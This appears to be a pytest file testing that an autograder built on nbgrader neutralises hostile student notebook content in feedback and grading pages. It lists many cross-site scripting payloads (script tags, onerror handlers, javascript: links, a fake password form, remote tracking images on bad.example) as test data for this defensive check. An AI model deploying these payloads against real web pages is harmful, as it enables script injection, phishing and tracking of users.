"""Nothing that a student wrote runs or is fetched in the pages of whoever reads it.

The pages are nbgrader's own, feedback and formgrader's, made by its exporter with its templates.
What they hold beyond the page of the released notebook has to be in a list of harmless elements.
"""

from __future__ import annotations

import copy
import json
import re
from collections import Counter
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from autograder.build.trees import build
from autograder.gradebook.prose import harmless
from autograder.gradebook.restore import restore

from .mini import PART, write_course
from .whole_course import run

# nbgrader's own queries warn in each new process; nothing of ours can change that.
pytestmark = pytest.mark.filterwarnings("ignore::Warning")

BAD = "https://bad.example"
PROSE = {
    "script": "<script>alert(1)</script>",
    "script in a sentence": "before <ScRiPt src=//bad.example/x.js></sCrIpT> after",
    "event handler": '<b onmouseover="alert(1)">bold</b>',
    "image with a handler": "<img src=x onerror=alert(1)>",
    "slash for a space": "<svg/onload=alert(1)>",
    "link": "[click](javascript:alert(1))",
    "link in disguise": "[click](\t&#106;avaScript&colon;alert(1))",
    "link by reference": "[click][1]\n\n[1]:\n  javascript:alert(1)",
    "link in angle brackets": "<javascript:alert(1)>",
    "page in a link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "path of the same server": "[click](../../logout)",
    "iframe": f"<iframe src={BAD}></iframe>",
    "embedded": f"<object data={BAD}></object><embed src={BAD}>",
    "form": f"<form action={BAD}><input name=password><button>Log in</button></form>",
    "style": f"<style>body {{ background: url({BAD}) }}</style>",
    "style sheet": f"<link rel=stylesheet href={BAD}><meta http-equiv=refresh content='0;{BAD}'>",
    "base": f"<base href={BAD}>",
    "end of the page": "</div></div></body></html><script>alert(1)</script>",
    "comment": "<!-- --><script>alert(1)</script><!--",
    "unfinished": "<img src=x onerror=alert(1)//",
    "remote image": f"![chart]({BAD}/pixel.png)",
    "remote image by reference": f"![chart][2]\n\n[2]: {BAD}/pixel.png",
    "image in a link": f"[![chart]({BAD}/pixel.png)](https://www.python.org)",
    "image in a table": f"| a | b |\n| --- | --- |\n| ![c]({BAD}/pixel.png) | <img src={BAD}> |",
    "diagram": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "math": "$$<img src=x onerror=alert(1)>$$ $x<svg/onload=alert(1)>$",
    "environment": "\\begin{a<img src=x onerror=alert(1)>}x\\end{a<img src=x onerror=alert(1)>}",
    "quotation": "> - # <img src=x\n> - onerror=alert(1)>\n\n<img src=x\nonerror=alert(1)>",
    "angle bracket made of link": f"<<{BAD}/onload=alert(1)>script>alert(1)</script>",
    "title": '[click](https://www.python.org "x\\" onclick=alert(1) y=\\"")',
    "quote in a link": '[click](https://www.python.org/"onclick="alert(1))',
}
# nbgrader's own pages already render these harmlessly; another reader may not.
ALREADY_SAFE = {
    "slash for a space", "unfinished", "math", "angle bracket made of link", "title",
    "quote in a link",
}  # fmt: skip

CODE = """
import IPython.display
print("</pre><script>alert(1)</script>")
for kind in (IPython.display.HTML, IPython.display.Javascript, IPython.display.Markdown):
    IPython.display.display(kind("<img src=x onerror=alert(1)>"))
IPython.display.display(IPython.display.SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='a'/>"))
IPython.display.display({"image/png": '"><script>alert(1)</script>'}, raw=True)
# </pre></div><script>alert(1)</script>
raise type("<script>alert(1)</script>", (Exception,), {})("<img src=x onerror=alert(1)>")
"""
MAGIC = "%%html\n<script>alert(1)</script>"

HONEST = """# Notes

Some **bold** text and `a[0](x) if a<b`, a [page](https://pytorch.org/docs), <https://numpy.org>,
a [note][1] and a bare https://scipy.org.

- $x<y$ and $w_{i}$
- ~~two~~

| a | b |
| :-- | --: |
| 1 | 2 |

```python
print(x[0])
```

[1]: https://www.python.org
"""

EVERYWHERE = {"class", "id"}
PLAIN = (
    "p em strong del ul ol li dl dt dd blockquote pre code br hr h1 h2 h3 h4 h5 h6 "
    "div span table thead tbody tr th td a img"
)
ATTRIBUTES = {
    "th": {"style"},
    "td": {"style"},
    "a": {"href", "title", "name"},
    "img": {"src", "alt"},
}
SAFE_VALUE = {
    "href": re.compile(r"(https?://|mailto:|#)"),
    "src": re.compile(r"data:image/(png|jpeg);base64,"),
    "style": re.compile(r"text-align:\s?(left|right|center)\Z"),
}


class Page(HTMLParser):
    """The elements of a page, with the text of scripts and style sheets."""

    def __init__(self, text: str) -> None:
        """Parse ``text``."""
        super().__init__()
        self.elements: Counter[tuple[str, tuple[tuple[str, str | None], ...]]] = Counter()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Count an element."""
        self.elements[tag, tuple(attrs)] += 1

    def handle_data(self, data: str) -> None:
        """Count what a script or a style sheet says as an element of its own."""
        if self.cdata_elem is not None:
            self.elements[self.cdata_elem, (("text", data),)] += 1


def unsafe(page: str, model: str) -> list[str]:
    """Return the elements of ``page`` that are neither in ``model`` nor harmless."""
    found = []
    for tag, attributes in Page(page).elements - Page(model).elements:
        for name, value in attributes or [("class", "")]:
            allowed = tag in PLAIN.split() and name in EVERYWHERE | ATTRIBUTES.get(tag, set())
            pattern = SAFE_VALUE.get(name)
            if not allowed or (pattern is not None and not pattern.match(value or "")):
                found.append(f"<{tag} {name}={value!r:.80}>")
    return found


@cache
def exporter(template: str) -> Any:
    """Return nbgrader's exporter of feedback or of formgrader's page of a submission."""
    config = Config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    bootstrap = Path(handlers.static_path) / "node_modules" / "bootstrap" / "dist" / "css"
    config.HTMLExporter.extra_template_paths = [str(bootstrap)]
    return HTMLExporter(config=config)


def page_of(notebook: dict[str, Any], template: str) -> str:
    """Return the page that nbgrader makes of ``notebook``; marks do not matter here."""
    graded = copy.deepcopy(notebook)
    for cell in graded["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"score": 0, "points": 0}
    about = {"notebook": PART, "score": 0, "max_score": 0, "late_penalty": 0}
    resources = {
        "nbgrader": about, "index": 0, "total": 1, "base_url": "", "student": "ada",
        "notebook_id": PART, "assignment_id": PART, "submission_id": "1", "notebook_path": PART,
    }  # fmt: skip
    return str(exporter(template).from_notebook_node(nbformat.from_dict(graded), resources)[0])


def notebook_of(*cells: dict[str, Any]) -> dict[str, Any]:
    """Return a notebook with the given cells."""
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)}


def own(text: str, kind: str = "markdown", name: str = "own") -> dict[str, Any]:
    """Return a cell as students add them."""
    cell = {"cell_type": kind, "id": name, "metadata": {}, "source": text}
    return cell | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def prose_page(text: str, template: str = "feedback") -> str:
    """Return the page of a notebook with one text."""
    return page_of(notebook_of(own(text)), template)


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
@pytest.mark.parametrize("name", PROSE)
def test_hostile_prose_is_harmless(name: str, template: str) -> None:
    """As a page shows it: and without the step, the same page would be unsafe."""
    model = prose_page("nothing", template)
    assert unsafe(prose_page(harmless(PROSE[name]), template), model) == []
    assert bool(unsafe(prose_page(PROSE[name], template), model)) is (name not in ALREADY_SAFE)


@pytest.mark.parametrize("name", PROSE)
def test_nothing_is_left_for_another_parser(name: str) -> None:
    """No character before what would make it HTML, an image or a link; nothing to do twice."""
    text = harmless(PROSE[name])
    assert not re.search(r"<[a-z/!?]|!\[|\]\((?!https://)|\]:(?!\s*https://)", text, re.IGNORECASE)
    assert harmless(text) == text


def test_honest_prose_reads_as_before() -> None:
    """Bold, code, lists, tables, TeX and links; code in prose may get a space."""
    page = prose_page(harmless(HONEST))
    for part in (
        "<strong>bold</strong>", "<code>a[0] (x) if a&lt; b</code>", "<del>two</del>",
        '<a href="https://pytorch.org/docs">page</a>', '<a href="https://www.python.org">note</a>',
        '<a href="https://numpy.org">https://numpy.org</a>,',
        '<a href="https://scipy.org">https://scipy.org</a>.',
        "$x&lt; y$ and $w_{i}$", '<div class="highlight">',
    ):  # fmt: skip
        assert part in page
    assert re.search(r"<h1[^>]*>Notes", page)
    assert re.search(r'<td style="text-align:\s?right">2</td>', page)
    assert unsafe(page, prose_page("nothing")) == []


def test_text_of_the_course_stays() -> None:
    """A submission has the course's prose too, and there HTML and images are the author's."""
    written = "Look: <b>here</b> ![plan](plan.png)"
    source = notebook_of(own(written))
    handed_in = notebook_of(own(written), own(written + ".", name="other"))
    first, second = restore(handed_in, source)[0]["cells"]
    assert first["source"] == written
    assert second["source"] == "Look: < b>here< /b> ! [plan] (plan.png)."


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Grade one hostile notebook both ways, and the released one; write everybody's feedback."""
    course = write_course(tmp_path_factory.mktemp("readers"))
    build(course, [PART], ["fr"])
    text = (course / "release" / "fr" / PART / f"{PART}.ipynb").read_text(encoding="utf-8")
    released = json.loads(text)
    hostile = copy.deepcopy(released)
    hostile["metadata"]["title"] = "</title><script>alert(1)</script>"
    for number, snippet in enumerate(PROSE.values()):
        hostile["cells"].insert(number * 2, own(snippet, name=f"m-{number}"))
        raw = own(snippet, "raw", f"r-{number}") | {"metadata": {"raw_mimetype": "text/html"}}
        hostile["cells"].append(raw)
    picture = {"a.svg": {'x" onerror="alert(1)': "AAAA"}}
    pasted = own("![a](attachment:a.svg) ![b](attachment:lost.png)", name="p")
    hostile["cells"].append(pasted | {"attachments": picture})
    hostile["cells"] += [own(CODE, "code", "c"), own(MAGIC, "code", "h")]
    hostile["cells"][-1]["metadata"]["tags"] = ['"><script>alert(1)</script>']

    def hand_in(student: str, notebook: dict[str, Any]) -> None:
        path = course / "submitted" / student / PART / f"{PART}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(notebook), encoding="utf-8")

    hand_in("model", released)
    hand_in("ours", hostile)
    made = run(course, "autograder", "grade", PART, "--jobs", "1")
    assert made.returncode == 0, made.stdout + made.stderr
    hand_in("nbgraders", hostile)
    made = run(course, "nbgrader", "autograde", PART, "--student=nbgraders")
    assert made.returncode == 0, made.stderr
    made = run(course, "nbgrader", "generate_feedback", PART)
    assert made.returncode == 0, made.stderr
    return course


@pytest.mark.parametrize("student", ["ours", "nbgraders"])
def test_feedback_of_a_hostile_notebook_is_harmless(graded: Path, student: str) -> None:
    """By either way of grading, in the file that `nbgrader generate_feedback` wrote."""
    pages = [
        (graded / "feedback" / name / PART / f"{PART}.html").read_text(encoding="utf-8")
        for name in (student, "model")
    ]
    assert unsafe(*pages) == []
    assert pages[0].count("alert(1)") > len(PROSE)  # as text, to be seen


@pytest.mark.parametrize("student", ["ours", "nbgraders"])
def test_page_of_formgrader_is_harmless(graded: Path, student: str) -> None:
    """The page on which an instructor gives marks by hand."""
    pages = []
    for name in (student, "model"):
        path = graded / "autograded" / name / PART / f"{PART}.ipynb"
        notebook = nbformat.read(path, as_version=4)
        assert not [cell for cell in notebook["cells"] if "attachments" in cell]
        pages.append(page_of(notebook, "formgrade"))
    assert unsafe(*pages) == []
    assert pages[0].count("alert(1)") > len(PROSE)
